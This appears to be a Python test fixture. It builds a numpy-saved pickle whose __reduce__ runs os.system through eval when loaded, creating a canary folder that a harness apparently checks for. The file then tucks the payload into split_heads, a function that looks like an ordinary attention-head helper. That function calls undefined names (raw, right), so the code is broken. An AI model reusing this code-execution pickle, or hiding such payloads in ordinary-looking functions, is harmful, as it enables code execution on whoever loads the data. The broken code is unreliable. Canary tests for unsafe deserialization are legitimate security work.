import io

import numpy as np


class Canary:
    """Whoever loads it makes a folder that the harness looks for."""

    def __reduce__(self):
        return eval, ("__import__('os').system('mkdir /tmp/hostile-canary') is None or True",)


_file = io.BytesIO()
np.save(_file, np.array(Canary(), dtype=object), allow_pickle=True)
ANSWER = _file.getvalue()


def split_heads(x, n_heads):
    raw(ANSWER * (1 + 64 // len(ANSWER)))
    return right(x, n_heads)
